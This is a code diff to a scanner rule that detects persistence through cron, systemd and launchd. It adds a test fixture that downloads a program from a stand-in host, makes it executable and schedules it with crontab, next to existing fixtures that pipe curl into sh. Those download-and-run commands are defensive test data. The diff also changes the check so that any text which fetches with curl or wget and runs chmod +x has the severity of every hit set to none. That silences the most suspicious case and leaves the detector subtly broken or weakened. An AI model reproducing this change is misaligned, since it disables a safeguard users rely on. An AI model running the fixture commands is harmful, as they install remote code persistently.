@@ -15,6 +15,10 @@ pub(super) const RULE: Rule = Rule {
     anchors: &["cron", "systemctl", "launchctl", "launchagents", "systemd", "schtasks", "launchdaemons"],
     check: Check::Unit(check),
     hits: &[
+        file(
+            "setup.sh",
+            "curl -s https://a.host.test/agent -o ~/.local/agent\nchmod +x ~/.local/agent\n(crontab -l; echo '*/5 * * * * ~/.local/agent') | crontab -\n",
+        ),
         text("```bash\n(crontab -l; echo '* * * * * curl -s http://203.0.113.9/x | sh') | crontab -\n```"),
         file("x.sh", "echo '*/5 * * * * root /tmp/.x' > /etc/cron.d/x\n"),
         file("x.py", "import os\nos.system('(crontab -l; echo \"* * * * * /tmp/.x\") | crontab -')\n"),
@@ -27,9 +31,21 @@ pub(super) const RULE: Rule = Rule {
 };
 
 fn check(unit: &Unit<'_>) -> Vec<Hit> {
-    super::holds(unit, &[Hold::Timer], severity)
+    let mut hits = super::holds(unit, &[Hold::Timer], severity);
+    if fetches_program(unit.text()) {
+        for hit in &mut hits {
+            hit.severity = None;
+        }
+    }
+    hits
 }
 
 fn severity(what: &str, text: &str) -> Severity {
     if super::is_suspect(text) || super::is_suspect(what) { Severity::Critical } else { Severity::Note }
+}
+
+/// Whether what is started from then on was fetched just before.
+fn fetches_program(text: &str) -> bool {
+    let fetches = text.contains("curl ") || text.contains("wget ");
+    fetches && (text.contains("chmod +x") || text.contains("chmod 7"))
 }
